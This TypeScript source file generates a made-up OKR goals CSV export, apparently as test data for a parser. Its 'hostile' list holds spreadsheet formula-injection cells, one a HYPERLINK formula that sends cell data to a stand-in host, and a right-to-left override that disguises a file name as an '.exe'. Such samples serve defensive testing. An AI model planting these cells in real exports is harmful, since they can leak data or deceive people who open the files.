/** The CSV that the simulated Graph exports: made-up goals, the same bytes for the same view and creation time. */
import { createHash } from 'node:crypto';

export type ContentOf = Readonly<{
  explorerViewId: string;
  /** Milliseconds since 1970; every date in the rows is relative to it. */
  createdAt: number;
  /** 300 without it. */
  rows?: number;
}>;

const header =
  'Id,Title,Team,Creator,Owner,Period,Start Date,End Date,Description,"Aligned To (weight, Objective ID)",Metric Name,Unit,Target,' +
  'Object Type,Goal Type,Start,Created At,Last Check-in,Progress %,Actual Progress,Status,Last Check-in Note,Score,Checkins';

const people = [
  'Mira Tannholt',
  'Jonas Weber-Iqbal',
  'Søren Okafor',
  'Lin Xiulan',
  'Aïcha Benvenuto',
  'Petr Dvořák-Hale',
];
const teams = ['Platform', 'Field; North', 'People & Places', 'Données', '製品', 'Finance'];
const verbs = ['Grow', 'Simplify', 'Halve', 'Launch', 'Prove', 'Renew'];
const things = [
  'onboarding time',
  'the support queue',
  'trial activation',
  'reporting (v2)',
  'the café pilot',
  'renewals 🚀',
];
const statuses = ['Not Started', 'On Track', 'Behind', 'At Risk', 'Closed', 'Postponed', 'Reopened'];
/** Cells that a spreadsheet would run, or that break careless parsers. */
const hostile = [
  '=HYPERLINK("https://example.invalid/?x="&A1,"Click")',
  '+1+1',
  '@SUM(A1:A9)',
  '-2+3',
  '\t=1+1',
  'He said ""wait""; then, left',
  '=1+1',
  'مرحبا‮ txt.exe',
];
const dayMs = 24 * 3_600_000;

/** UTF-8 without a byte order mark, `\n` between records, ragged: one further unnamed column for each further check-in. */
export const contentFor = ({ explorerViewId, createdAt, rows = 300 }: ContentOf): Buffer => {
  const pick = createDraw(explorerViewId);
  const lines = Array.from({ length: rows }, (_, index) => row(index, createdAt, pick).map(cell).join(','));
  return Buffer.from(`${[header, ...lines].join('\n')}\n`);
};

const row = (index: number, createdAt: number, draw: Draw): readonly string[] => {
  const level = index % 4;
  const created = createdAt - (200 - (index % 90)) * dayMs;
  const progress = draw.below(101);
  const checkins = Array.from({ length: draw.below(4) }, (_, nth) =>
    checkin(created + (nth + 1) * 14 * dayMs, draw),
  );
  const year = new Date(createdAt).getUTCFullYear();
  const target = level === 0 ? '' : String(100 * (1 + draw.below(90)));
  return [
    String(4_100 + index),
    index % 40 === 7
      ? (hostile[((index / 40) % hostile.length) | 0] ?? '')
      : `${draw.of(verbs)} ${draw.of(things)} ${index}`,
    draw.of(teams),
    draw.of(people),
    level === 3 ? `${draw.of(people)}, ${draw.of(people)}` : draw.of(people),
    index % 3 === 0 ? `Annual ${year}` : `Q${1 + (index % 4)} ${year}`,
    `${year}-01-01`,
    `${year}-12-31`,
    index % 11 === 5 ? 'First line of the description.\nSecond line; with a semicolon.' : '',
    level === 0 ? '' : `Grow renewals (all) ${index - level}(weight: 33.33%, Id: ${4_100 + index - level})`,
    level === 0 ? '' : 'Completion',
    level === 2 ? 'USD' : '%',
    level === 2 ? `"${target}"`.slice(1, -1).replace(/(\d)(?=(\d{3})+$)/g, '$1,') : target,
    level === 0 ? 'Objective' : level === 3 ? 'Deliverable' : 'Key result',
    'Committed',
    '0',
    `${dateOf(created)} 14:36:20 UTC`,
    checkins.length === 0 ? '' : dateOf(created + checkins.length * 14 * dayMs),
    String(progress),
    level === 2 ? '1,234' : String(progress),
    draw.of(statuses),
    checkins.length === 0 ? '' : 'As agreed\nin the review',
    '',
    ...(checkins.length === 0 ? [''] : checkins),
  ];
};

const checkin = (at: number, draw: Draw): string =>
  `Checkin Date: ${dateOf(at)}; User: ${draw.of(people)}; Note: ${draw.of(hostile)}\nnext; step; Status: ${draw.of(statuses)}; ` +
  `Current Value: ${draw.below(101)}%; Activity Date: ${dateOf(at)} 09:00:00 UTC;`;

const cell = (text: string): string => (/[",\n\r]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

const dateOf = (at: number): string => new Date(at).toISOString().slice(0, 10);

type Draw = Readonly<{ below: (limit: number) => number; of: (words: readonly string[]) => string }>;

/** Numbers that look random and are the same for the same seed. */
const createDraw = (seed: string): Draw => {
  let state = createHash('sha256').update(seed).digest().readUInt32BE(0) | 1;
  const below = (limit: number): number => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % limit;
  };
  return { below, of: (words) => words[below(words.length)] ?? '' };
};
